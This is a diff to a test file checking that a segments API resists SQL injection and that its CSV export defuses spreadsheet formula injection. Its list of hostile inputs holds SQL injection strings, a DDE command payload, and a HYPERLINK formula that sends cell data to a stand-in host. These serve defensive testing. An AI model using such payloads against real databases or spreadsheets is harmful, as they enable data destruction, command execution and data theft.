@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestTessera, type TestTessera } from '../support/tessera.js';
 
@@ -9,6 +10,11 @@ import { startTestTessera, type TestTessera } from '../support/tessera.js';
  */
 
 const NASTY = [
+  '=HYPERLINK("http://evil.example/?"&A1, "click")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '+8613817263549',
+  '-12.5',
   "O'Brien",
   'x"); DROP TABLE events; --',
   "'; DELETE FROM segment_members WHERE '1'='1",
@@ -65,7 +71,7 @@ describe('segments against injection', () => {
     // segment_members, api_keys), where LIKE would have matched every value.
     expect(await count({ trait: 'nickname', op: 'contains', value: '%' })).toBe(1);
     expect(await count({ trait: 'nickname', op: 'contains', value: '_' })).toBe(3);
-    expect(await count({ trait: 'nickname', op: 'contains', value: "'" })).toBe(3);
+    expect(await count({ trait: 'nickname', op: 'contains', value: "'" })).toBe(4);
     // Neither an always-true fragment nor a keyword widens a match.
     expect(await count({ trait: 'nickname', op: 'eq', value: "' OR '1'='1" })).toBe(0);
     expect(await count({ trait: 'nickname', op: 'neq', value: "' OR '1'='1" })).toBe(NASTY.length);
@@ -89,6 +95,31 @@ describe('segments against injection', () => {
     }
   });
 
+  it('exports hostile values as text a spreadsheet will not run', async () => {
+    const r = await t.api('POST', '/api/v1/segments', {
+      name: 'all of them',
+      condition: { trait: 'nickname', op: 'exists' },
+      realtime: false,
+    });
+    const res = await fetch(`${t.url}/api/v1/segments/${r.body.id as string}/export`, {
+      method: 'POST',
+      headers: {
+        authorization: 'Bearer tsk_test_bootstrap_key_0123456789',
+        'content-type': 'application/json',
+      },
+      body: JSON.stringify({ traits: ['nickname'] }),
+    });
+    const rows = Papa.parse<Record<string, string>>(await res.text(), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    const cells = new Set(rows.map((x) => x.nickname));
+    // Formulas are defused with a leading quote; every other value (signed numbers too) is as sent.
+    const defused = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
+    for (const v of NASTY) expect(cells.has(defused.includes(v) ? `'${v}` : v), v).toBe(true);
+    expect(cells.size).toBe(NASTY.length);
+  });
+
   it('left every table as it was', async () => {
     const r = await t.api('POST', '/api/v1/segments', {
       name: 'quotes',
@@ -99,7 +130,9 @@ describe('segments against injection', () => {
     expect((await t.api('GET', '/api/v1/events?limit=1000')).body.events.length).toBeGreaterThanOrEqual(
       eventsBefore,
     );
-    expect((await t.api('GET', '/api/v1/segments')).body.segments).toHaveLength(1);
+    expect(
+      (await t.api('GET', '/api/v1/segments')).body.segments.map((x: { name: string }) => x.name).sort(),
+    ).toEqual(['all of them', 'quotes']);
     const members = await t.api('GET', `/api/v1/segments/${r.body.id as string}/members?traits=nickname`);
     expect(
       members.body.members.map((m: { traits: { nickname: string } }) => m.traits.nickname).sort(),
